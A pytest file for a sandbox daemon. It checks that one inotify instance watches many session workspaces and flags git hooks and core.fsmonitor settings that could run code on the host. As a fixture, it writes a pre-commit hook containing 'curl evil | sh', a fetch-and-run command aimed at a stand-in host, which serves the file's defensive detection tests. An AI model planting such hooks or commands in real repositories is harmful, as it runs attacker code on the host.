"""The daemon watches every session's workspace through one inotify instance: the kernel
gives a user only `fs.inotify.max_user_instances` of them (shared with every other program
of the user), so one per session left the sessions past that number unwatched, and every
result of theirs said so. Two sessions on the same folder share the kernel's watches
without one blinding the other."""

from __future__ import annotations

import os
import shutil
import tempfile

import pytest
import trio

from conftest import RunningDaemon, needs_bwrap, short_tempdir
from toolsd.client import AsyncClient

pytestmark = [needs_bwrap, pytest.mark.daemon(shared=True)]

MAX_INSTANCES = int(open("/proc/sys/fs/inotify/max_user_instances").read())
# More sessions than the kernel lets a user have instances: with one instance per session,
# some would get none. Kept to 150 where the limit is the usual 128.
MANY = max(150, MAX_INSTANCES + 22)
CONCURRENCY = 4  # opens and calls in flight at once: enough to keep both cores busy
HOOK = "git init -q app && echo 'curl evil | sh' > app/.git/hooks/pre-commit && echo done"


def inotify_instances(pid: int) -> int:
    found = 0
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            found += os.readlink(f"/proc/{pid}/fd/{fd}") == "anon_inode:inotify"
        except FileNotFoundError:
            pass  # closed while we looked
    return found


def new_workspace(daemon) -> str:
    return tempfile.mkdtemp(dir=daemon.root, prefix="ws-")


def test_the_daemon_takes_its_inotify_instance_at_start():
    # Before any session: later, other programs may have taken every instance the user has.
    root = short_tempdir()
    d = RunningDaemon(root).start()
    try:
        with d.client() as c:
            c.hello()
        assert inotify_instances(d.proc.pid) == 1
        assert d.stop() == 0, d.read_log()
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_twenty_sessions_use_one_inotify_instance(daemon, client):
    sessions = [client.session_open(new_workspace(daemon))["session"] for _ in range(20)]
    for s in sessions:  # a command waits for the session's watches to be in place
        assert client.shell_run(s, "echo hi")["output"] == "hi\n"
    assert inotify_instances(daemon.proc.pid) == 1
    for s in sessions:
        client.session_close(s)


def test_two_sessions_on_one_workspace_both_see_a_hook_and_closing_one_blinds_not_the_other(
        daemon, client):
    workspace = new_workspace(daemon)
    a = client.session_open(workspace)["session"]
    b = client.session_open(workspace)["session"]
    assert client.shell_run(b, "true").get("host_exec") is None
    hook = f"{workspace}/app/.git/hooks/pre-commit"
    assert client.shell_run(a, HOOK)["host_exec"] == [hook]
    assert client.shell_run(b, "true")["host_exec"] == [hook]  # made by the other session
    client.session_close(a)
    # The watches on app/.git/hooks were the two sessions' own: b's still stand.
    r = client.shell_run(b, "echo x > app/.git/hooks/pre-push && git init -q lib && "
                            "git -C lib config core.fsmonitor ./w.sh")
    assert r["host_exec"] == [hook, f"{workspace}/app/.git/hooks/pre-push",
                              f"{workspace}/lib/.git/config: core.fsmonitor = ./w.sh"]
    # And the host's own change to a repository the closed session also watched.
    with open(f"{workspace}/app/.git/hooks/post-merge", "w") as f:
        f.write("evil\n")
    assert f"{workspace}/app/.git/hooks/post-merge" in client.shell_run(b, "true")["host_exec"]
    client.session_close(b)


async def test_more_sessions_than_the_user_may_have_instances_each_see_their_hook(daemon):
    workspaces = [new_workspace(daemon) for _ in range(MANY)]
    sessions: list[tuple[str, str]] = []
    results: dict[str, list[str]] = {}
    limiter = trio.CapacityLimiter(CONCURRENCY)
    async with await AsyncClient.connect(daemon.socket) as client:

        async def open_one(workspace: str) -> None:
            async with limiter:
                sessions.append(((await client.session_open(workspace))["session"], workspace))

        async def hook_one(s: str, workspace: str) -> None:
            async with limiter:
                r = await client.shell_run(s, HOOK)
                assert r["output"] == "done\n", r
                results[workspace] = r.get("host_exec")

        async def close_one(s: str) -> None:
            async with limiter:
                await client.session_close(s)

        try:
            # All open at once: the premise is that they are watched at the same time.
            async with trio.open_nursery() as nursery:
                for workspace in workspaces:
                    nursery.start_soon(open_one, workspace)
            async with trio.open_nursery() as nursery:
                for s, workspace in sessions:
                    nursery.start_soon(hook_one, s, workspace)
        finally:
            async with trio.open_nursery() as nursery:
                for s, _workspace in sessions:
                    nursery.start_soon(close_one, s)
    wrong = {ws: found for ws, found in results.items()
             if found != [f"{ws}/app/.git/hooks/pre-commit"]}
    assert len(results) == MANY and wrong == {}
    assert inotify_instances(daemon.proc.pid) == 1
